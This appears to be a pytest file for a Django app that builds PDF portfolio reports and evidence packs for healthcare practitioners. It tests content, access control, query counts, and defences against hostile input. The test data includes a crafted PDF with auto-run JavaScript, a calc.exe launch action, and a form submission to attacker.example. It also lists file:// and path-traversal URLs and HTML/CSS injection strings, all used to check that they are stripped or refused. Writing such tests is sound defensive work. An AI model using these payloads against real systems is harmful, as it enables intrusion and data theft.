"""The portfolio report and pack: what the PDF says, its metadata, outline and
tags, the pack's appended evidence, who may download it, the command, the
URL fetcher's refusals, and a fixed number of queries.

Each PDF render takes about a second, so tests share renders where they can.
"""

import datetime
import http.server
import io
import re
import threading
import unicodedata
import uuid

import pytest
from django.core.files.base import ContentFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from accounts.models import CareerStage, RegistrationBody
from capability.models import Capability, Pillar
from portfolios.demo import minimal_pdf
from portfolios.models import (
    AppraiserRating,
    Assessment,
    AssessmentEvidence,
    AssessmentStatus as S,
    AssessmentTransition,
    DevelopmentObjective,
    EvidenceAttachment,
    EvidenceImpactLink,
)
from core import pdf as fetcher
from reports.portfolio import build_report, render_portfolio_html, render_portfolio_pdf
from portfolios.workflow import APPRAISER_DECLARATION, PRACTITIONER_DECLARATION
from tests.conftest import signed_in
from tests.factories import AssessmentFactory, EvidenceFactory

pytestmark = pytest.mark.django_db


# Building an assessment -------------------------------------------------------


def signed_off_assessment(practitioner, appraiser, *, evidence=2, status=S.LOCKED):
    """Every capability rated (all four levels used), reflections of two
    paragraphs, the appraiser's ratings and comments, a plan, a history and
    both signatures; ``evidence`` items included, mapped to capabilities."""
    practitioner.career_stage = CareerStage.YEARS_1_3
    practitioner.registration_body = RegistrationBody.NMC
    practitioner.registration_number = "12A3456B"
    practitioner.save()
    assessment = AssessmentFactory(practitioner=practitioner, title="Annual self-assessment 2025 to 2026",
                                   period_start=datetime.date(2025, 4, 1), period_end=datetime.date(2026, 3, 31))
    levels = list(assessment.rating_scale.levels.order_by("value"))
    ratings = list(assessment.ratings.select_related("capability").order_by("capability__number"))
    for index, rating in enumerate(ratings):
        rating.level = levels[index % len(levels)]
        rating.reflection = f"First paragraph about capability {rating.capability.number}.\n\nSecond paragraph."
        rating.save()
    AppraiserRating.objects.bulk_create(
        AppraiserRating(assessment=assessment, capability=r.capability, appraiser=appraiser,
                        level=levels[(i + 1) % len(levels)], comment=f"Appraiser comment {r.capability.number}")
        for i, r in enumerate(ratings)
    )
    add_evidence(assessment, evidence)
    objective = DevelopmentObjective.objects.create(
        assessment=assessment, objective="Lead a regional audit of falls", actions="Agree the standard.",
        target_date=datetime.date(2027, 3, 31), created_by=appraiser,
    )
    objective.capabilities.set(Capability.objects.filter(number__in=[1, 2]))
    for source, target, actor in [(S.DRAFT, S.SUBMITTED, practitioner), (S.SUBMITTED, S.IN_REVIEW, appraiser),
                                  (S.IN_REVIEW, S.AWAITING_SIGN_OFF, appraiser),
                                  (S.AWAITING_SIGN_OFF, S.SIGNED_OFF, practitioner)]:
        AssessmentTransition.objects.create(assessment=assessment, from_status=source, to_status=target, actor=actor,
                                            comment="Moved on")
    now = timezone.now()
    Assessment.objects.filter(pk=assessment.pk).update(
        status=status, appraiser_summary="A strong year with impact across the system.",
        appraiser_signed_by=appraiser, appraiser_signed_at=now, practitioner_signed_at=now,
    )
    assessment.refresh_from_db()
    return assessment


def add_evidence(assessment, count, **fields):
    capabilities = list(Capability.objects.filter(framework=assessment.framework).order_by("number"))
    existing = assessment.evidence_links.count()
    items = []
    for n in range(existing, existing + count):
        item = EvidenceFactory(
            owner=assessment.practitioner, title=f"Evidence title number {n + 1}",
            activity_date=datetime.date(2025, 5, 1) + datetime.timedelta(days=n),
            capabilities=[capabilities[n % len(capabilities)], capabilities[(n + 5) % len(capabilities)]],
            **fields,
        )
        if n % 2 == 0:
            statement = Pillar.objects.filter(framework=assessment.framework).first().impact_statements.first()
            EvidenceImpactLink.objects.create(evidence=item, impact_statement=statement, justification="It shows it")
        if n % 3 == 0:
            attach(item, f"note-{n}.txt", b"hello", "text/plain")
        AssessmentEvidence.objects.create(assessment=assessment, evidence=item)
        items.append(item)
    return items


def attach(item, name, data, content_type):
    attachment = EvidenceAttachment(evidence=item, original_name=name, content_type=content_type, size=len(data))
    attachment.file.save(name, ContentFile(data), save=False)
    attachment.save()
    return attachment


# Reading PDFs -----------------------------------------------------------------


def reader(pdf: bytes):
    from pypdf import PdfReader

    return PdfReader(io.BytesIO(pdf))


def pdf_text(pdf: bytes) -> str:
    """All the text, with whitespace and line-end breaks after hyphens
    folded, so phrases can be found whatever the line breaks."""
    text = "\n".join(page.extract_text() for page in reader(pdf).pages)
    text = unicodedata.normalize("NFKC", text)
    return re.sub(r"-\s+", "-", " ".join(text.split()))


def squeeze(text: str) -> str:
    return "".join(unicodedata.normalize("NFKC", text).split())


def outline_titles(outline, depth=0):
    titles = []
    for entry in outline:
        if isinstance(entry, list):
            titles.extend(outline_titles(entry, depth + 1))
        else:
            titles.append((depth, entry.title))
    return titles


# The report -------------------------------------------------------------------


def test_report_has_every_statement_rating_evidence_and_both_signatures(framework, practitioner, appraiser):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=3)
    report = build_report(assessment)
    text = pdf_text(report.pdf)
    normalised = lambda s: re.sub(r"-\s+", "-", " ".join(unicodedata.normalize("NFKC", s).split()))  # noqa: E731

    for capability in Capability.objects.filter(framework=framework):
        assert normalised(capability.statement[:40]) in text, capability.number
    for level in assessment.rating_scale.levels.all():
        assert f"{level.value} {level.label}" in text
    for link in assessment.evidence_links.select_related("evidence"):
        assert link.evidence.title in text
    assert "E1" in text and "E3" in text
    assert practitioner.full_name in text and appraiser.full_name in text
    assert normalised(APPRAISER_DECLARATION) in text and normalised(PRACTITIONER_DECLARATION) in text
    assert "Signed by " + appraiser.full_name in text and "Signed by " + practitioner.full_name in text
    assert "Appraiser comment 7" in text and "A strong year with impact across the system." in text
    assert "Lead a regional audit of falls" in text
    assert "Nursing and Midwifery Council (NMC), number 12A3456B" in text
    assert timezone.localdate().strftime("%-d %B %Y") in text
    # The print stylesheet was loaded: its running footer is there.
    pdf = reader(report.pdf)
    assert f"Page 2 of {len(pdf.pages)}" in text
    # Reflections keep their paragraphs.
    assert "<p>First paragraph about capability 1.</p>\n\n<p>Second paragraph.</p>" in report.html

    metadata = pdf.metadata
    assert metadata.title.startswith(f"Capability portfolio: {practitioner.full_name}")
    assert metadata.author == practitioner.full_name
    assert "Self-assessment against" in metadata.subject

    titles = outline_titles(pdf.outline)
    for pillar in framework.pillars.all():
        assert (0, pillar.name) in titles
    capability_titles = [title for depth, title in titles if depth == 1]
    assert len(capability_titles) == 16 and capability_titles[0].startswith("Capability 1 ")

    root = pdf.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"] and "/StructTreeRoot" in root
    assert root["/Lang"] == "en-GB"


def test_page_count_grows_with_evidence(framework, practitioner, appraiser):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=1)
    fewer = len(reader(render_portfolio_pdf(assessment)).pages)
    add_evidence(assessment, 40)
    more = len(reader(render_portfolio_pdf(assessment)).pages)
    assert more > fewer + 3


def test_appraiser_ratings_are_not_in_the_report_before_the_appraiser_signs_off(framework, practitioner, appraiser):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=1, status=S.IN_REVIEW)
    html = render_portfolio_html(assessment)
    assert "Appraiser comment 7" not in html
    assert "A strong year" not in html
    assert "not shared yet" in html.lower()


# The pack ---------------------------------------------------------------------


def pack_from_worker(client, assessment, settings):
    """The pack as a person gets it: the old ?pack=1 link leads to the page
    that asks the worker for it (run at once here), and its page to the
    download."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    response = client.get(reverse("reports:assessment_report", kwargs={"pk": assessment.pk}) + "?pack=1")
    make_url = reverse("reports:make_report", kwargs={"pk": assessment.pk})
    assert response.status_code == 302 and response["Location"] == make_url
    response = client.post(make_url, {"kind": "pack"})
    assert response.status_code == 302
    page = client.get(response["Location"])
    assert "Your portfolio pack is ready" in page.content.decode()
    response = client.get(response["Location"] + "download/")
    return response, b"".join(response.streaming_content)


def two_page_pdf(text: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(minimal_pdf(text))))
    writer.add_blank_page()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bytes() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (60, 40), (0, 94, 184)).save(out, "PNG")
    return out.getvalue()


def test_pack_appends_pdf_pages_images_and_bookmarks_and_lists_what_it_could_not_include(
    framework, practitioner, appraiser, client, settings
):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=0)
    first, second = add_evidence(assessment, 2)
    attach(first, "audit-report.pdf", two_page_pdf("Attached audit report"), "application/pdf")
    attach(first, "ward-photo.png", png_bytes(), "image/png")
    attach(second, "broken.pdf", b"%PDF-1.4 this is not really a PDF", "application/pdf")
    attach(second, "figures.csv", b"month,count\n2026-01,4\n", "text/csv")

    response, content = pack_from_worker(signed_in(client, practitioner), assessment, settings)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert 'filename="capability-portfolio-pack-' in response["Content-Disposition"]
    pdf = reader(content)

    titles = outline_titles(pdf.outline)
    assert (0, "Evidence files") in titles
    assert (1, "E1: audit-report.pdf") in titles and (1, "E1: ward-photo.png") in titles
    assert not any("broken.pdf" in title or "figures.csv" in title for _, title in titles)
    outline = pdf.outline
    evidence_files = outline[[getattr(e, "title", None) for e in outline].index("Evidence files")]
    report_pages = pdf.get_destination_page_number(evidence_files)
    # A divider and the PDF's two pages, then a divider and one page for the image; nothing else.
    assert len(pdf.pages) == report_pages + 5
    text = [page.extract_text() for page in pdf.pages[report_pages:]]
    assert text[0].startswith("Evidence file 1 of 2") and "E1" in text[0] and "audit-report.pdf" in text[0]
    assert "Attached audit report" in text[1]
    assert text[3].startswith("Evidence file 2 of 2") and "ward-photo.png" in text[3]
    assert "ward-photo.png" in text[4]
    # Each file's bookmark opens at its divider page.
    bookmarks = {item.title: pdf.get_destination_page_number(item) for item in outline[outline.index(evidence_files) + 1]}
    assert bookmarks == {"E1: audit-report.pdf": report_pages, "E1: ward-photo.png": report_pages + 3}

    report_text = pdf_text(content)
    assert "Could not be included: the file could not be read as a PDF" in report_text
    assert "Not included: only PDF, PNG and JPEG files are added to the pack" in report_text
    assert "Included: 2 pages" in report_text


def hostile_pdf() -> bytes:
    """A PDF that runs JavaScript on opening, launches a program and opens a
    web page from links, submits a form, and carries an embedded file."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(minimal_pdf("Hostile but readable"))))

    def action(kind, **entries):
        return DictionaryObject({NameObject("/S"): NameObject(kind),
                                 **{NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()}})

    writer.add_attachment("payload.exe", b"MZ not really a program")
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("opened"), writer._add_object(action("/JavaScript", JS="app.alert('opened')")),
    ])})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action("/JavaScript", JS="app.alert(1)"))
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])
    annotations = ArrayObject()
    for act in (action("/Launch", F="calc.exe"), action("/URI", URI="https://attacker.example/"),
                action("/SubmitForm", F="https://attacker.example/collect")):
        annotations.append(writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): rect, NameObject("/A"): act,
        })))
    # A note a colleague left: kept, but its action is not.
    annotations.append(writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
        NameObject("/Rect"): rect, NameObject("/Contents"): TextStringObject("Reviewed by the audit lead"),
        NameObject("/A"): action("/JavaScript", JS="app.alert(2)"),
    })))
    page = writer.pages[0]
    page[NameObject("/Annots")] = annotations
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.alert(3)")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_pack_keeps_an_evidence_pdfs_pages_but_none_of_its_active_content(
    framework, practitioner, appraiser, client, settings
):
    data = hostile_pdf()
    for marker in (b"/JavaScript", b"/Launch", b"/URI", b"/SubmitForm", b"/EmbeddedFile", b"/OpenAction"):
        assert marker in data, marker
    assessment = signed_off_assessment(practitioner, appraiser, evidence=0)
    (item,) = add_evidence(assessment, 1)
    attach(item, "audit.pdf", data, "application/pdf")

    response, content = pack_from_worker(signed_in(client, practitioner), assessment, settings)
    assert response.status_code == 200
    pdf = reader(content)
    assert "Hostile but readable" in pdf.pages[-1].extract_text()
    root = pdf.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    # The report's own named destinations stay; no script or file comes with them.
    assert not {"/JavaScript", "/EmbeddedFiles"} & set(root.get("/Names", {}).get_object() if "/Names" in root else {})
    assert "/AcroForm" not in pdf.trailer["/Root"]
    evidence_page = pdf.pages[-1]  # the report's own pages keep their links within the report
    for page in [evidence_page]:
        assert "/AA" not in page
        for annotation in page.get("/Annots") or []:
            annotation = annotation.get_object()
            assert annotation["/Subtype"] != "/Link"
            assert "/A" not in annotation and "/AA" not in annotation
    notes = [a.get_object() for a in pdf.pages[-1].get("/Annots") or []]
    assert [note["/Contents"] for note in notes] == ["Reviewed by the audit lead"]
    # Nothing of the kind anywhere in the file, compressed streams aside.
    for marker in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"payload.exe"):
        assert marker not in content, marker


# Who may download it ----------------------------------------------------------


def test_report_download_for_those_who_may_see_the_assessment_and_404_for_strangers(
    framework, practitioner, appraiser, org_admin, other_user, client
):
    assessment = AssessmentFactory(practitioner=practitioner, status=S.SUBMITTED,
                                   period_start=datetime.date(2025, 4, 1), period_end=datetime.date(2026, 3, 31))
    url = reverse("reports:assessment_report", kwargs={"pk": assessment.pk})
    assert url == f"/assessments/{assessment.pk}/report.pdf"

    assert signed_in(client, other_user).get(url).status_code == 404
    assert signed_in(client, practitioner).post(url).status_code == 405
    expected_name = f"capability-portfolio-{practitioner.full_name.lower().replace(' ', '-')}-2025-2026.pdf"
    for person in (practitioner, appraiser, org_admin):
        response = signed_in(client, person).get(url)
        assert response.status_code == 200, person
        assert response["Content-Type"] == "application/pdf"
        assert response.content.startswith(b"%PDF-")
        assert response["Content-Disposition"].startswith("attachment;")
        if practitioner.full_name.replace(" ", "").replace("-", "").isalpha():
            assert expected_name in response["Content-Disposition"]
        assert response["Cache-Control"] == "private, no-store"


def test_summary_page_links_to_the_report_and_the_pack(framework, practitioner, client):
    assessment = AssessmentFactory(practitioner=practitioner)
    html = signed_in(client, practitioner).get(
        reverse("portfolios:assessment_summary", kwargs={"pk": assessment.pk})
    ).content.decode()
    url = reverse("reports:assessment_report", kwargs={"pk": assessment.pk})
    assert f'href="{url}">Download the portfolio report (PDF)' in html
    make_url = reverse("reports:make_report", kwargs={"pk": assessment.pk})
    assert f'href="{make_url}">Get the portfolio pack (PDF)' in html


# The command ------------------------------------------------------------------


def test_command_writes_the_pdf_and_the_html_it_was_made_from(framework, practitioner, appraiser, tmp_path, capsys):
    older = AssessmentFactory(practitioner=practitioner, title="Older", period_start=datetime.date(2023, 4, 1),
                              period_end=datetime.date(2024, 3, 31))
    latest = signed_off_assessment(practitioner, appraiser, evidence=1)
    output, html = tmp_path / "report.pdf", tmp_path / "report.html"

    call_command("render_report", practitioner.email.upper(), "--output", str(output), "--html", str(html))

    assert output.read_bytes().startswith(b"%PDF-")
    written = html.read_text(encoding="utf-8")
    assert written.startswith("<!DOCTYPE html>") and latest.title in written
    # The report is of the latest assessment; the older one is named only as the previous plan's source.
    assert written.count("Older") == 1
    assert "No objectives were agreed at the previous assessment (Older)." in written
    assert 'href="css/report.css"' in written
    assert "report.pdf" in capsys.readouterr().out

    with pytest.raises(CommandError, match="No one has the email address"):
        call_command("render_report", "nobody@example.org", "--output", str(output))
    with pytest.raises(CommandError, match="has no assessment"):
        call_command("render_report", practitioner.email, "--assessment", str(uuid.uuid4()), "--output", str(output))
    with pytest.raises(CommandError, match="not an assessment ID"):
        call_command("render_report", practitioner.email, "--assessment", "nonsense", "--output", str(output))
    assert older.pk  # chosen only with --assessment


# Safety: nothing is fetched but the project's static files ---------------------


class RecordingServer:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self):
        self.requests = []
        recorder = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                recorder.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/css")
                self.end_headers()
                self.wfile.write(b"body { color: red }")

            def log_message(self, *args):
                pass

        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def test_links_and_markup_in_what_people_typed_are_printed_never_fetched(framework, practitioner, appraiser):
    with RecordingServer() as server:
        base = f"http://127.0.0.1:{server.port}"
        # The server answers: a fetch would be recorded.
        import urllib.request

        urllib.request.urlopen(f"{base}/probe", timeout=5).read()
        assert server.requests == ["/probe"]
        server.requests.clear()

        assessment = signed_off_assessment(practitioner, appraiser, evidence=0)
        description = f"<img src={base}/x>"
        reflection = f"<style>@import url({base}/y)</style>"
        title = f'<link rel="stylesheet" href="{base}/z">'
        item, = add_evidence(assessment, 1, description=description, link=f"{base}/link")
        item.title = title
        item.save()
        assessment.ratings.filter(capability__number=1).update(reflection=reflection)

        pdf = render_portfolio_pdf(assessment)

        assert server.requests == []
    text = squeeze(pdf_text(pdf))
    for shown in (description, reflection, title, f"{base}/link"):
        assert squeeze(shown) in text, shown


@pytest.mark.parametrize("url", [
    "file:///etc/passwd",
    "FILE:///etc/passwd",
    "http://127.0.0.1:9/x.css",
    "https://example.org/report.css",
    "ftp://example.org/report.css",
    "//example.org/report.css",
    "/etc/passwd",
    "/static/../../config/settings.py",
    "/static/%2e%2e/%2e%2e/config/settings.py",
    "/static/css/../../../config/settings.py",
    "../config/settings.py",
    "css/report.css/../../../config/settings.py",
    "/static/css\\..\\..\\config\\settings.py",
    "/static/css/report.py",
    "report-static:/../config/settings.py",
    "javascript:alert(1)",
])
def test_the_fetcher_refuses_everything_but_static_files_and_data_uris(url):
    with pytest.raises(fetcher.FetchRefused):
        fetcher.load(url)
    with pytest.raises(fetcher.FetchRefused):
        fetcher.report_url_fetcher().fetch(url)


def test_the_fetcher_serves_the_report_stylesheet_and_data_uris():
    for url in ("css/report.css", "/static/css/report.css"):
        resource = fetcher.report_url_fetcher().fetch(url)
        assert resource.content_type == "text/css"
        assert b"@page" in resource.read()
    resource = fetcher.load("data:image/png;base64," + __import__("base64").b64encode(png_bytes()).decode())
    assert resource.content_type == "image/png" and resource.body.startswith(b"\x89PNG")


# Queries ----------------------------------------------------------------------


@pytest.mark.parametrize("evidence", [1, 30])
def test_the_report_html_takes_the_same_number_of_queries_whatever_the_evidence(
    framework, practitioner, appraiser, evidence, django_assert_num_queries
):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=evidence)
    assessment = Assessment.objects.get(pk=assessment.pk)
    with django_assert_num_queries(QUERIES):
        html = render_portfolio_html(assessment)
    assert f"E{evidence}" in html


# Plus one for the assessment's 360° feedback rounds (none here). Four of
# them read the edition's capabilities with their elements and bullets, and
# its rating levels, which a process then keeps (capability/structure.py).
# Two check the audit trail: every chain in one, the live rows against their
# last entries in the other (portfolios.timeline.assessment_audit_state).
# One says who confirmed the evidence. One looks for the previous
# assessment, whose plan's outcomes the one-page summary gives (none here).
QUERIES = 24


def closed_feedback_round(assessment, *, raters=3, comment="Clear and kind"):
    from feedback import services as feedback

    today = timezone.localdate()
    capabilities = list(assessment.framework.capabilities.filter(number__in=[1, 5]))
    levels = list(assessment.rating_scale.levels.order_by("value"))
    feedback_round = feedback.start_round(
        assessment=assessment, capabilities=capabilities, opens_on=today, closes_on=today + datetime.timedelta(days=7),
    )
    feedback.save_self_ratings(feedback_round=feedback_round, levels={c.pk: levels[1] for c in capabilities})
    invitations = [
        feedback.add_rater(feedback_round=feedback_round, name=f"Peer {n}", email=f"peer{n}@example.org", group="peer")
        for n in range(raters)
    ]
    feedback.send_round(feedback_round=feedback_round)
    for invitation in invitations:
        invitation.refresh_from_db()
        feedback.submit_response(invitation=invitation, answers=feedback.RaterAnswers(
            ratings={c.pk: levels[3].pk for c in capabilities}, comments={(None, "strengths"): comment},
        ))
    return feedback.close_round(feedback_round=feedback_round)


def test_the_report_includes_closed_360_feedback_with_rater_text_escaped(framework, practitioner, appraiser):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=1)
    closed_feedback_round(assessment, comment='<img src="http://127.0.0.1:1/x"> Calm <style>body{display:none}</style>')
    html = render_portfolio_html(assessment)
    assert '<section id="feedback"' in html and '<a href="#feedback">360° feedback</a>' in html
    assert "&lt;img src=&quot;http://127.0.0.1:1/x&quot;&gt; Calm &lt;style&gt;" in html
    text = pdf_text(render_portfolio_pdf(assessment))
    assert "360° feedback" in text
    assert "Peer (3)" in text
    # Self-rating 2 against the three peers' 4 on both capabilities: mean 4.0,
    # all ratings 4, three of them.
    assert text.count("4.0 (4, 3)") == 2


def test_360_feedback_still_open_is_not_in_the_report(framework, practitioner, appraiser):
    from feedback import services as feedback

    assessment = signed_off_assessment(practitioner, appraiser, evidence=1)
    today = timezone.localdate()
    feedback.start_round(
        assessment=assessment, capabilities=[assessment.framework.capabilities.get(number=1)],
        opens_on=today, closes_on=today + datetime.timedelta(days=7),
    )
    assert '<section id="feedback"' not in render_portfolio_html(assessment)


@pytest.mark.parametrize("raters", [3, 9])
def test_the_report_queries_do_not_grow_with_360_responses(
    framework, practitioner, appraiser, raters, django_assert_num_queries
):
    assessment = signed_off_assessment(practitioner, appraiser, evidence=1)
    closed_feedback_round(assessment, raters=raters)
    assessment = Assessment.objects.get(pk=assessment.pk)
    with django_assert_num_queries(QUERIES + FEEDBACK_ROUND_QUERIES):
        html = render_portfolio_html(assessment)
    assert f"Peer ({raters})" in html


# One closed round adds: self-ratings, responses with answers (2), invitation
# groups, capabilities, comments, rating levels for the chart.
FEEDBACK_ROUND_QUERIES = 7
